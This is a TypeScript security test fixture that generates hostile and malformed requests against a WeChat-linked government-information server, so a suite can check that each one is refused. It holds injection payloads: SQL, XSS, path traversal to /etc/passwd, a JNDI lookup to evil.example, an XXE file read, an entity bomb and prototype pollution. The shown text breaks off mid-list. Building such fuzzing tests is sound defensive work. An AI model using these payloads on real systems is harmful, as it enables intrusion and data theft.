// Malformed and hostile requests to the three doors of the server (/wechat, /mp/v1, /admin/v1),
// generated from a seed. Each family is one way of being wrong; every generated request is wrong
// in at least that way, whatever else the random choices add, so a 2xx answer to a "refuse" case is
// a hole, not bad luck.
//
// What each case may do (decided here, checked by hostile.suite.ts):
// - refuse: a 4xx, and no data file changes.
// - read: a read with odd parameters; 2xx or 4xx, and no data file changes.
// - signed-odd: a push that carries a valid signature and well-formed XML but odd content (emoji,
//   unknown types, strange ids). WeChat sends such pushes and must get 200 ("success" or a reply)
//   or it retries, so 200 is right; a 4xx is tolerated. It may change what a push legitimately
//   changes — the inbox of handled pushes, conversations, the customer-service window
//   (wechat-inbox.json, conversations.json, notify.json) — and nothing else.
// - failed-login: a wrong password for an existing user: a 4xx, and only that user's failed-login
//   counter and lock-out in staff.json change (the lock-out is the defence).
import { createHash, randomBytes } from 'node:crypto';
import type { Random } from './support.js';
import type { RawRequest } from './raw-http.js';

export type Expectation = 'refuse' | 'read' | 'signed-odd' | 'failed-login';

export interface HostileCase extends RawRequest {
  family: string;
  expect: Expectation;
  /** The answer need not be JSON: the HTTP layer itself refuses it (e.g. 431), or it is WeChat's protocol. */
  notJson?: boolean;
}

export interface HostileContext {
  /** The app clock, ms. */
  now: () => number;
  wechatToken: string;
  mp: { alice: string; bob: string; expired: string; aliceApp: string; bobApp: string };
  staff: { admin: string; clerk: string; expired: string; victim: string };
  /** Applications in the 'processing' status. */
  processingApps: string[];
}

// ------------------------------------------------------------------------------------------------
// Hostile text

export const HOSTILE_STRINGS: readonly string[] = [
  '😀',
  '👨‍👩‍👧‍👦🏳️‍🌈',
  '\u0000',
  '\u0001\u0002\u0003\u001b[31mred\u001b[0m',
  '\u007f\u0085\u009f',
  '\u202egnp.exe',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  '\udfff\ud800',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '"; DROP TABLE applications; --',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '\r\n\r\nHTTP/1.1 200 OK\r\n',
  ']]><xml>',
  '<![CDATA[x]]>',
  '&lt;&#0;&#x0;',
  'NaN',
  'Infinity',
  '-1',
  '9'.repeat(400),
  '中'.repeat(3000),
  '\t\n\r ',
  '',
  ' ',
];

const NON_STRINGS: readonly unknown[] = [null, 0, -1, 1.5, 1e308, true, false, [], ['x'], {}, { $ne: null }, { toString: 'x' }, [[[]]]];

function hostileText(r: Random): string {
  const base = r.pick(HOSTILE_STRINGS);
  return r.next() < 0.2 ? base.repeat(r.int(2, 50)) : base;
}

function hostileValue(r: Random): unknown {
  return r.next() < 0.5 ? hostileText(r) : r.pick(NON_STRINGS);
}

/** A path segment made of a hostile string, percent-encoded so it can go on the request line. */
function hostileSegment(r: Random): string {
  const raw = r.pick(['..', '%2e%2e', '..%2f..%2f..%2fetc%2fpasswd', '%00', '%', '%zz', '%c0%ae%c0%ae', 'x'.repeat(5000), '.', '~', '%2F']);
  return r.next() < 0.5 ? raw : encode(hostileText(r)).slice(0, 20_000) || '%20';
}

/** encodeURIComponent, with lone surrogates (which it refuses) sent as their replacement character. */
function encode(text: string): string {
  return encodeURIComponent(text.replace(/[\ud800-\udfff]/gu, '\ufffd'));
}

function deepNest(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

// ------------------------------------------------------------------------------------------------
// WeChat's signature and XML

function sha1Sorted(parts: string[]): string {
  return createHash('sha1').update([...parts].sort().join('')).digest('hex');
}

function nonce(): string {
  return randomBytes(6).toString('hex');
}

/** The query of a correctly signed push at `timestamp` (seconds). */
function signed(c: HostileContext, timestamp = Math.floor(c.now() / 1000), extra: Record<string, string> = {}): URLSearchParams {
  const n = nonce();
  const t = String(timestamp);
  return new URLSearchParams({ signature: sha1Sorted([c.wechatToken, t, n]), timestamp: t, nonce: n, openid: 'x', ...extra });
}

/** A query that looks signed but is not: an alias of /wechat must refuse it like /wechat does. */
function forged(c: HostileContext): URLSearchParams {
  const q = signed(c);
  q.set('signature', randomBytes(20).toString('hex'));
  return q;
}

let msgId = 6_100_000_000_000_000_000n;

function textXml(from: string, content: string, options: { type?: string; msgId?: string; createTime?: string } = {}): string {
  return (
    `<xml><ToUserName><![CDATA[gh_sandbox000001]]></ToUserName><FromUserName><![CDATA[${from}]]></FromUserName>` +
    `<CreateTime>${options.createTime ?? '1700000000'}</CreateTime><MsgType><![CDATA[${options.type ?? 'text'}]]></MsgType>` +
    `<Content><![CDATA[${content}]]></Content><MsgId>${options.msgId ?? String(msgId++)}</MsgId></xml>`
  );
}

const BAD_XML: ReadonlyArray<(r: Random) => string | Buffer> = [
  () => '',
  () => ' ',
  () => '<xml>',
  () => '<xml><ToUserName>',
  () => textXml('u1', 'hi').slice(0, 60),
  () => '{"ToUserName":"gh","MsgType":"text"}',
  () => 'ToUserName=gh&MsgType=text',
  () => '<xml></xml>',
  () => '<xml><MsgType>text</MsgType></xml>',
  () => '<xml><FromUserName>u</FromUserName></xml>',
  () => '<xml><FromUserName><![CDATA[u]]></FromUserName><MsgType><![CDATA[text]]></MsgType></xml><xml>',
  () => '<notxml><a/></notxml>',
  () => '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]><xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&lol6;</Content><MsgId>1</MsgId></xml>',
  () => '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content><MsgId>2</MsgId></xml>',
  (r) => '<a>'.repeat(r.int(1000, 20_000)) + '</a>'.repeat(10),
  (r) => randomBytes(r.int(1, 4000)),
  () => Buffer.from([0xff, 0xfe, 0x00, 0x3c, 0x00, 0x78]),
  () => '\ufeff<xml><MsgType>text',
  (r) => `<xml>${'<Content>x</Content>'.repeat(r.int(100, 3000))}</xml>`,
  () => '<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[]]></FromUserName><CreateTime>1</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[hi]]></Content><MsgId>3</MsgId></xml>',
  () => '<xml><Encrypt><![CDATA[AAAA]]></Encrypt></xml>',
];

// ------------------------------------------------------------------------------------------------
// Application bodies

function validApplication(): Record<string, any> {
  return {
    applicant: { type: 'person', name: '张三', idNumber: '11010519491231002X', phone: '13800138000', email: 'zhangsan@example.com' },
    request: { description: '请公开2025年度本市人防工程建设审批事项的办理结果清单' },
    delivery: { form: 'electronic', method: 'email' },
  };
}

/** Changes that each make a valid body invalid, whatever else is in it. */
const BREAK_APPLICATION: ReadonlyArray<(b: Record<string, any>, r: Random) => void> = [
  (b, r) => (b.applicant.type = r.pick([hostileText(r), 1, null, [], {}, 'PERSON', 'admin'])),
  (b, r) => (b.applicant.name = r.pick([1, [], {}, true, '', '   ', '张3', `${hostileText(r)}1`, '张'.repeat(51), '张'])),
  (b, r) => (b.applicant.idNumber = r.pick(['110105194912310021', '11010519491231002', 'abcdefghijklmnopqr', 110105194912310020, `${hostileText(r)}X`, ''])),
  (b, r) => (b.applicant.phone = r.pick(['abc', '123', 13800138000, '😀😀😀😀😀😀😀😀😀😀😀', '', `${hostileText(r)}`.slice(0, 3) + 'x'])),
  (b, r) => (b.request.description = r.pick(['短', '😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀', 'aaaaaaaaaaaaaaaaaaaa', '中'.repeat(2001), 42, [], null, '\u0000\u0001\u0002'])),
  (b, r) => (b.delivery.form = r.pick(['digital', 1, null, hostileText(r) + '!'])),
  (b, r) => (b.delivery.method = r.pick(['pigeon', 1, [], hostileText(r) + '!'])),
  (b) => (b.delivery = { form: 'paper', method: 'wechat' }),
  (b) => (b.delivery = { form: 'paper', method: 'email' }),
  (b) => {
    b.delivery = { form: 'paper', method: 'post' };
    delete b.applicant.address;
  },
  (b) => delete b.applicant,
  (b) => delete b.request,
  (b) => delete b.delivery,
  (b, r) => (b.applicant = r.pick(['张三', 1, [], true])),
  (b, r) => (b.request = r.pick(['请公开', 1, [['x']]])),
  (b) => {
    b.applicant.type = 'organization';
    b.applicant.orgKind = 'commercial';
    b.applicant.creditCode = '91110000000000000X';
    b.applicant.contactName = '李四';
  },
  (b, r) => (b.applicant.email = r.pick(['not-an-email', '@', 'a@b', `${hostileText(r)}@`])),
  (b, r) => {
    b.applicant.postcode = r.pick(['12345', 'abcdef', 1000000]);
  },
];

function brokenApplication(r: Random): Record<string, any> {
  const body = validApplication();
  // Other hostile content that need not be wrong by itself...
  if (r.next() < 0.5) body.request.documentNumber = hostileText(r).slice(0, 500);
  if (r.next() < 0.3) Object.assign(body, JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}'));
  if (r.next() < 0.3) body.isAdmin = true;
  if (r.next() < 0.3) body.applicant.address = hostileText(r);
  // ...and then at least one change that is.
  r.pick(BREAK_APPLICATION)(body, r);
  for (let more = r.int(0, 2); more > 0; more--) {
    try {
      r.pick(BREAK_APPLICATION)(body, r);
    } catch {
      // The first change removed what this one would change: the body is broken already.
    }
  }
  return body;
}

// ------------------------------------------------------------------------------------------------
// Requests

const json = (body: unknown) => ({ 'Content-Type': 'application/json' as string, body: typeof body === 'string' ? body : JSON.stringify(body) });

function post(path: string, body: unknown, headers: Record<string, string> = {}): RawRequest {
  const { body: text, ...type } = json(body);
  return { method: 'POST', path, headers: { ...type, ...headers }, body: text };
}

const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });

const BAD_AUTH: ReadonlyArray<(r: Random) => Record<string, string>> = [
  () => ({}),
  () => ({ Authorization: '' }),
  () => ({ Authorization: 'Bearer' }),
  () => ({ Authorization: 'Bearer ' }),
  () => ({ Authorization: 'Bearer short' }),
  () => ({ Authorization: `Bearer ${'a'.repeat(201)}` }),
  () => ({ Authorization: `Bearer ${randomBytes(32).toString('base64url')}` }),
  () => ({ Authorization: `Basic ${Buffer.from('admin:admin-password-1').toString('base64')}` }),
  () => ({ Authorization: `bearer ${randomBytes(32).toString('base64url')}` }),
  (r) => ({ Authorization: `Bearer ${encode(hostileText(r)).slice(0, 300)}` }),
  () => ({ Authorization: `Bearer ${randomBytes(32).toString('base64url')}, Bearer ${randomBytes(32).toString('base64url')}` }),
  () => ({ Cookie: `gk_staff=${randomBytes(32).toString('base64url')}` }),
  () => ({ Cookie: 'gk_staff=' }),
];

const MP_ROUTES: ReadonlyArray<(c: HostileContext) => RawRequest> = [
  () => ({ method: 'GET', path: '/mp/v1/applications' }),
  (c) => ({ method: 'GET', path: `/mp/v1/applications/${c.mp.aliceApp}` }),
  () => post('/mp/v1/applications', validApplication()),
  (c) => post(`/mp/v1/applications/${c.mp.aliceApp}/supplement`, { text: '补充材料如下：请见附件说明' }),
  (c) => post(`/mp/v1/applications/${c.mp.aliceApp}/withdraw`, {}),
  () => ({ method: 'GET', path: '/mp/v1/notify/templates' }),
  () => post('/mp/v1/notify/consents', { accepted: ['GK_MP_RECEIPT'] }),
  () => ({ method: 'GET', path: '/mp/v1/guide' }),
  () => ({ method: 'GET', path: '/mp/v1/guide/search?q=%E6%94%B6%E8%B4%B9' }),
];

const ADMIN_ROUTES: ReadonlyArray<(c: HostileContext) => RawRequest> = [
  () => ({ method: 'GET', path: '/admin/v1/me' }),
  () => ({ method: 'GET', path: '/admin/v1/users' }),
  () => post('/admin/v1/users', { username: 'intruder', password: 'intruder-password-1', roles: ['admin'] }),
  () => ({ method: 'GET', path: '/admin/v1/applications' }),
  (c) => ({ method: 'GET', path: `/admin/v1/applications/${c.processingApps[0]}` }),
  () => post('/admin/v1/applications', validApplication()),
  (c) => post(`/admin/v1/applications/${c.processingApps[0]}/events`, { type: 'decide', on: today(c), outcome: 'granted' }),
  () => post('/admin/v1/applications/import', { records: [{ ...validApplication(), events: [] }] }),
  () => post('/admin/v1/jobs/outbox/run', {}),
  () => post('/admin/v1/jobs/backup/run', {}),
  () => ({ method: 'GET', path: '/admin/v1/reports/annual?year=2025' }),
  () => ({ method: 'PUT', path: '/admin/v1/reports/annual/2025/texts', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ overview: '概述', problems: '问题', otherMatters: '其他' }) }),
  (c) => ({ method: 'GET', path: `/admin/v1/applications/${c.processingApps[0]}/documents` }),
  () => ({ method: 'GET', path: '/admin/v1/notify/dead-letters' }),
  () => post('/admin/v1/notify/binding-code', {}),
];

function today(c: HostileContext): string {
  return new Date(c.now() + 8 * 3_600_000).toISOString().slice(0, 10);
}

type Family = { name: string; expect: Expectation; notJson?: boolean; make: (r: Random, c: HostileContext) => RawRequest };

const FAMILIES: Family[] = [
  // ---- /wechat ---------------------------------------------------------------------------------
  {
    name: 'wechat: URL check without a signature',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c, undefined, { echostr: 'echo' });
      for (const key of ['signature', 'timestamp', 'nonce']) if (r.next() < 0.6) q.delete(key);
      if (q.has('signature') && q.has('timestamp') && q.has('nonce')) q.delete('signature');
      return { method: 'GET', path: `/wechat?${q}` };
    },
  },
  {
    name: 'wechat: URL check with a forged signature',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c, undefined, { echostr: encode(hostileText(r)).slice(0, 100) || 'e' });
      q.set('signature', r.pick([randomBytes(20).toString('hex'), 'f'.repeat(40), hostileText(r), sha1Sorted(['wrong-token', q.get('timestamp')!, q.get('nonce')!])]));
      return { method: 'GET', path: `/wechat?${q}` };
    },
  },
  {
    name: 'wechat: URL check signed long ago or in the future',
    expect: 'refuse',
    make: (r, c) => {
      const skew = r.pick([301, 3600, 86_400 * 365, 10 ** 9]) * (r.next() < 0.5 ? -1 : 1);
      return { method: 'GET', path: `/wechat?${signed(c, Math.max(0, Math.floor(c.now() / 1000) + skew), { echostr: 'echo' })}` };
    },
  },
  {
    name: 'wechat: URL check without echostr',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c);
      if (r.next() < 0.5) q.set('echostr', '');
      return { method: 'GET', path: `/wechat?${q}` };
    },
  },
  {
    name: 'wechat: push with a forged or missing signature',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c);
      const how = r.int(0, 4);
      if (how === 0) q.delete('signature');
      else if (how === 1) q.set('signature', randomBytes(20).toString('hex'));
      else if (how === 2) q.set('signature', q.get('signature')!.slice(0, 39));
      else if (how === 3) q.set('signature', sha1Sorted(['guessed-token', q.get('timestamp')!, q.get('nonce')!]));
      else q.set('nonce', `${q.get('nonce')}x`);
      return { method: 'POST', path: `/wechat?${q}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('forger', '我要申请') };
    },
  },
  {
    name: 'wechat: push without any query',
    expect: 'refuse',
    make: (r) => ({ method: 'POST', path: r.pick(['/wechat', '/wechat?', '/wechat?openid=x']), headers: { 'Content-Type': 'text/xml' }, body: textXml('anon', hostileText(r)) }),
  },
  {
    name: 'wechat: push signed long ago or in the future (replay)',
    expect: 'refuse',
    make: (r, c) => {
      const skew = r.pick([301, 900, 86_400, 86_400 * 3650]) * (r.next() < 0.5 ? -1 : 1);
      return { method: 'POST', path: `/wechat?${signed(c, Math.max(0, Math.floor(c.now() / 1000) + skew))}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('replayer', '我要申请') };
    },
  },
  {
    name: 'wechat: push with a timestamp that is not a number, correctly signed',
    expect: 'refuse',
    make: (r, c) => {
      const timestamp = r.pick(['abc', '-1', '1e10', ' 1700000000', `${Math.floor(c.now() / 1000)}.5`, '0x65', '99999999999999999999']);
      const n = nonce();
      const q = new URLSearchParams({ signature: sha1Sorted([c.wechatToken, timestamp, n]), timestamp, nonce: n });
      return { method: 'POST', path: `/wechat?${q}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('clock', 'hi') };
    },
  },
  {
    name: 'wechat: signed push whose body is not a WeChat message',
    expect: 'refuse',
    notJson: true,
    make: (r, c) => ({ method: 'POST', path: `/wechat?${signed(c)}`, headers: { 'Content-Type': r.pick(['text/xml', 'application/json', 'application/octet-stream']) }, body: r.pick(BAD_XML)(r) }),
  },
  {
    name: 'wechat: signed push with a huge body',
    expect: 'refuse',
    notJson: true,
    make: (r, c) => ({ method: 'POST', path: `/wechat?${signed(c)}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('big', 'x'.repeat(r.int(70_000, 2_000_000))) }),
  },
  {
    name: 'wechat: signed push claiming safe mode, which is off',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c, undefined, { encrypt_type: 'aes', msg_signature: randomBytes(20).toString('hex') });
      return { method: 'POST', path: `/wechat?${q}`, headers: { 'Content-Type': 'text/xml' }, body: `<xml><ToUserName><![CDATA[gh]]></ToUserName><Encrypt><![CDATA[${randomBytes(r.int(16, 400)).toString('base64')}]]></Encrypt></xml>` };
    },
  },
  {
    name: 'wechat: the signature parameters given twice',
    expect: 'refuse',
    make: (r, c) => {
      const q = signed(c);
      const key = r.pick(['signature', 'timestamp', 'nonce']);
      q.append(key, r.pick([q.get(key)!, randomBytes(4).toString('hex')]));
      return { method: r.pick(['GET', 'POST']), path: `/wechat?${q}&echostr=e`, headers: { 'Content-Type': 'text/xml' }, body: textXml('twice', 'hi') };
    },
  },
  {
    name: 'wechat: a method WeChat never uses',
    expect: 'refuse',
    make: (r, c) => ({ method: r.pick(['PUT', 'DELETE', 'PATCH']), path: `/wechat?${signed(c)}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('method', 'hi') }),
  },
  {
    name: 'wechat: path tricks around /wechat and the data folder',
    expect: 'refuse',
    make: (r, c) => ({
      method: r.pick(['GET', 'POST']),
      path:
        r.pick([
          '/wechat/../admin/v1/users',
          '/wechat%2F..%2Fadmin%2Fv1%2Fusers',
          '/wechat/..%2f..%2fdata%2fruntime%2fapplications.json',
          '//wechat',
          '/WECHAT',
          '/wechat;.json',
          '/wechat%00',
          '/wechat/x',
          '/%2e%2e/%2e%2e/etc/passwd',
          '/../../../../etc/passwd',
          '/data/runtime/applications.json',
          '/applications.json',
          '/staff.json',
          '/.lock',
          '/package.json',
          '/src/main.ts',
          '/.git/config',
          '/node_modules/koa/package.json',
          '/__sandbox/outbox',
          '/__sandbox/wechat-api/cgi-bin/stable_token',
          '/sandbox',
          `/${hostileSegment(r)}`,
        ]) + `?${forged(c)}`,
      headers: { 'Content-Type': 'text/xml' },
      body: textXml('walker', 'hi'),
    }),
  },
  {
    name: 'wechat: a query too long to be a WeChat push',
    expect: 'refuse',
    notJson: true,
    make: (r, c) => ({ method: 'POST', path: `/wechat?${signed(c)}&pad=${'p'.repeat(r.int(20_000, 60_000))}`, headers: { 'Content-Type': 'text/xml' }, body: textXml('long', 'hi') }),
  },
  {
    name: 'wechat: signed text with emoji, control characters and markup',
    expect: 'signed-odd',
    notJson: true,
    make: (r, c) => ({ method: 'POST', path: `/wechat?${signed(c)}`, headers: { 'Content-Type': 'text/xml' }, body: textXml(`odd${r.int(1, 40)}`, hostileText(r).replaceAll(']]>', ']]]]><![CDATA[>').slice(0, 3000)) }),
  },
  {
    name: 'wechat: signed push of an unknown message type or event',
    expect: 'signed-odd',
    notJson: true,
    make: (r, c) =>
      r.next() < 0.5
        ? { method: 'POST', path: `/wechat?${signed(c)}`, headers: { 'Content-Type': 'text/xml' }, body: textXml(`odd${r.int(1, 40)}`, 'hi', { type: r.pick(['hologram', '', 'TEXT', 'event', hostileText(r).replace(/]]>/g, '')]) }) }
        : {
            method: 'POST',
            path: `/wechat?${signed(c)}`,
            headers: { 'Content-Type': 'text/xml' },
            body: `<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[odd${r.int(1, 40)}]]></FromUserName><CreateTime>1700000000</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[${r.pick(['CLICK', 'teleport', 'subscribe_msg_popup_event', 'SCAN', ''])}]]></Event><EventKey><![CDATA[${hostileText(r).replace(/]]>/g, '').slice(0, 200)}]]></EventKey></xml>`,
          },
  },
  {
    name: 'wechat: signed push from a strange user id',
    expect: 'signed-odd',
    notJson: true,
    make: (r, c) => ({
      method: 'POST',
      path: `/wechat?${signed(c)}`,
      headers: { 'Content-Type': 'text/xml' },
      body: textXml(r.pick(['../../etc/passwd', '__proto__', 'constructor', 'x'.repeat(2000), '😀', 'a/b\\c', 'toString', 'hasOwnProperty']), r.pick(['你好', '我要申请', '查询进度', '帮助'])),
    }),
  },
  {
    name: 'wechat: signed push with odd numbers',
    expect: 'signed-odd',
    notJson: true,
    make: (r, c) => ({
      method: 'POST',
      path: `/wechat?${signed(c)}`,
      headers: { 'Content-Type': 'text/xml' },
      body: textXml(`odd${r.int(1, 40)}`, '帮助', { msgId: r.pick(['abc', '-1', '1e400', '', '99999999999999999999999999', '__proto__']), createTime: r.pick(['-1', '0', '1e20', 'abc', '']) }),
    }),
  },

  // ---- /mp/v1 ----------------------------------------------------------------------------------
  {
    name: 'mp: no usable token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(MP_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...r.pick(BAD_AUTH)(r) } };
    },
  },
  {
    name: 'mp: an expired token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(MP_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...bearer(c.mp.expired) } };
    },
  },
  {
    name: 'mp: a staff token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(MP_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...bearer(c.staff.admin) } };
    },
  },
  {
    name: 'mp: login with a code WeChat refuses',
    expect: 'refuse',
    make: (r) =>
      post('/mp/v1/session', {
        code: r.pick([
          hostileValue(r),
          `dev:${hostileText(r)}!`,
          'dev:',
          'dev:../../etc/passwd',
          `dev:${'a'.repeat(65)}`,
          'dev:a b',
          'x'.repeat(257),
          'wxcode-that-was-used',
          `dev:${encode('😀')}`,
        ]),
      }),
  },
  {
    name: 'mp: login body that is not a JSON object',
    expect: 'refuse',
    make: (r) => {
      const body = r.pick(['', '{', '{"code":', '[]', '"dev:alice"', 'null', '1', '{"code":"dev:alice"', deepNest(r.int(10, 5000)), 'code=dev%3Aalice&x=%00']);
      const type = body.startsWith('code=') ? 'application/x-www-form-urlencoded' : r.pick(['application/json', 'text/plain', 'application/xml']);
      // A well-formed urlencoded or JSON "dev:alice" login would be a real login: keep the code broken.
      return { method: 'POST', path: '/mp/v1/session', headers: { 'Content-Type': type }, body: body.replace('dev:alice', 'dev:a!ice').replace('dev%3Aalice', 'dev%3Aa!ice') };
    },
  },
  {
    name: 'mp: an application body that breaks the rules',
    expect: 'refuse',
    make: (r, c) => post('/mp/v1/applications', brokenApplication(r), bearer(r.pick([c.mp.alice, c.mp.bob]))),
  },
  {
    name: 'mp: an application body that is not JSON',
    expect: 'refuse',
    make: (r, c) => {
      const body = r.pick(['', '{', '{"applicant":', 'null', '[]', '"申请"', '42', deepNest(r.int(10, 5000)), '{"a":1,"a":2', '\u0000\u0001', JSON.stringify(validApplication()).slice(0, -1)]);
      return { method: 'POST', path: '/mp/v1/applications', headers: { 'Content-Type': r.pick(['application/json', 'text/plain', 'application/xml', 'multipart/form-data; boundary=x']), ...bearer(c.mp.alice) }, body };
    },
  },
  {
    name: 'mp: an application body that is too large',
    expect: 'refuse',
    make: (r, c) => {
      const body = validApplication();
      body.request.description = '中'.repeat(r.int(90_000, 400_000));
      return post('/mp/v1/applications', body, bearer(c.mp.bob));
    },
  },
  {
    name: 'mp: a valid application with a malformed Idempotency-Key',
    expect: 'refuse',
    make: (r, c) => post('/mp/v1/applications', validApplication(), { ...bearer(c.mp.bob), 'Idempotency-Key': r.pick(['short', 'a b c d e f g h', 'x'.repeat(129), '../../../etc', 'key/with/slash', '%F0%9F%98%80%F0%9F%98%80', 'semi;colon;key', 'q?uery=string']) }),
  },
  {
    name: "mp: another user's application",
    expect: 'refuse',
    make: (r, c) => {
      const [token, id] = r.next() < 0.5 ? [c.mp.bob, c.mp.aliceApp] : [c.mp.alice, c.mp.bobApp];
      return r.pick([
        { method: 'GET', path: `/mp/v1/applications/${id}`, headers: bearer(token) },
        post(`/mp/v1/applications/${id}/supplement`, { text: '这是补正内容，请查收' }, bearer(token)),
        post(`/mp/v1/applications/${id}/withdraw`, {}, bearer(token)),
      ]);
    },
  },
  {
    name: 'mp: an application id that does not exist or walks paths',
    expect: 'refuse',
    make: (r, c) => {
      const id = r.pick([hostileSegment(r), randomBytes(9).toString('base64url'), '__proto__', 'constructor', 'toString']);
      return r.pick([
        { method: 'GET', path: `/mp/v1/applications/${id}`, headers: bearer(c.mp.alice) },
        post(`/mp/v1/applications/${id}/supplement`, { text: '这是补正内容，请查收' }, bearer(c.mp.alice)),
        post(`/mp/v1/applications/${id}/withdraw`, {}, bearer(c.mp.alice)),
      ]);
    },
  },
  {
    name: 'mp: a supplement that is wrong, or not asked for',
    expect: 'refuse',
    make: (r, c) => post(`/mp/v1/applications/${c.mp.aliceApp}/supplement`, r.pick([{}, { text: hostileValue(r) }, { text: 'x' }, { text: '补'.repeat(2001) }, { text: '补充身份证明材料' }, []]), bearer(c.mp.alice)),
  },
  {
    name: 'mp: consents that name no real template',
    expect: 'refuse',
    make: (r, c) =>
      post(
        '/mp/v1/notify/consents',
        r.pick([
          { accepted: 'GK_MP_RECEIPT' },
          { accepted: [hostileText(r) + '?'] },
          { accepted: [1, 2, 3] },
          { accepted: Array.from({ length: 21 }, () => 'GK_MP_RECEIPT') },
          { accepted: ['GK_MP_RECEIPT'], rejected: ['GK_MP_RECEIPT'] },
          { rejected: ['GK_OA_STAFF_TASK'] },
          { accepted: ['__proto__'] },
          { accepted: { 0: 'GK_MP_RECEIPT', length: 1 } },
          [],
        ]),
        bearer(r.pick([c.mp.alice, c.mp.bob])),
      ),
  },
  {
    name: 'mp: a method the route does not have',
    expect: 'refuse',
    make: (r, c) => ({ method: r.pick(['PUT', 'DELETE', 'PATCH']), path: r.pick(['/mp/v1/applications', `/mp/v1/applications/${c.mp.aliceApp}`, '/mp/v1/session']), headers: { ...bearer(c.mp.alice), 'Content-Type': 'application/json' }, body: '{}' }),
  },
  {
    name: 'mp: guide search that cannot be answered',
    expect: 'refuse',
    make: (r, c) => ({ method: 'GET', path: `/mp/v1/guide/search?${r.pick(['', 'q=', 'q=%20%20', `q=${'%E4%B8%AD'.repeat(300)}`, 'q=a&q=b', 'q[]=x'])}`, headers: bearer(c.mp.alice) }),
  },
  {
    name: 'mp: reads with odd parameters',
    expect: 'read',
    make: (r, c) => ({ method: 'GET', path: r.pick([`/mp/v1/applications?page=${encode(JSON.stringify(hostileValue(r)) ?? "x")}`, `/mp/v1/guide/search?q=${encode(hostileText(r) || '收费').slice(0, 300)}`, '/mp/v1/guide?x=%00']), headers: bearer(c.mp.alice) }),
  },

  // ---- /admin/v1 -------------------------------------------------------------------------------
  {
    name: 'admin: no usable token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(ADMIN_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...r.pick(BAD_AUTH)(r) } };
    },
  },
  {
    name: 'admin: an expired token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(ADMIN_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...bearer(c.staff.expired) } };
    },
  },
  {
    name: "admin: a mini-program user's token",
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(ADMIN_ROUTES)(c);
      return { ...request, headers: { ...request.headers, ...bearer(c.mp.alice) } };
    },
  },
  {
    name: 'admin: the session cookie without the CSRF token',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(ADMIN_ROUTES.filter((route) => route(c).method !== 'GET'))(c);
      const csrf = r.pick([{}, { 'X-CSRF-Token': randomBytes(32).toString('base64url') }, { 'X-CSRF-Token': '' }]);
      return { ...request, headers: { ...request.headers, Cookie: `gk_staff=${c.staff.admin}`, ...csrf } };
    },
  },
  {
    name: 'admin: a role that may not do it',
    expect: 'refuse',
    make: (r, c) => {
      const request = r.pick(ADMIN_ROUTES.slice(1, 13))(c);
      return { ...request, headers: { ...request.headers, ...bearer(c.staff.clerk) } };
    },
  },
  {
    name: 'admin: login that is not a username and password',
    expect: 'refuse',
    make: (r) =>
      r.next() < 0.3
        ? { method: 'POST', path: '/admin/v1/session', headers: { 'Content-Type': r.pick(['application/json', 'text/plain']) }, body: r.pick(['', '{', '[]', 'null', '"admin"', deepNest(r.int(10, 3000))]) }
        : post('/admin/v1/session', r.pick([{}, { username: hostileValue(r) }, { password: 'admin-password-1' }, { username: ['admin'], password: ['admin-password-1'] }, { username: 'admin', password: r.pick<unknown>([1, { $gt: '' }, ['admin-password-1'], null, true]) }])),
  },
  {
    name: 'admin: login as someone who does not exist',
    expect: 'refuse',
